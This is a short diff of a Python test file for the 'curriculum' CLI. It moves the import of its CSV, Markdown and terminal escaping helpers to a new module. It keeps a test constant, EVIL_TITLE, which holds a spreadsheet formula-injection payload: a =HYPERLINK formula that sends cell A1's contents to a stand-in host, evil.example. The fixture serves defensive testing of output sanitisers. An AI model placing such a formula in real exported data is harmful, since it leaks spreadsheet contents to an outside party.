@@ -13,7 +13,7 @@ from click.testing import CliRunner
 from conftest import DATA
 
 from curriculum.cli import main
-from curriculum.report.safe import csv_cell, markdown_cell, terminal_text
+from curriculum.io.cells import csv_cell, markdown_cell, terminal_text
 
 TINY = DATA / "tiny"
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
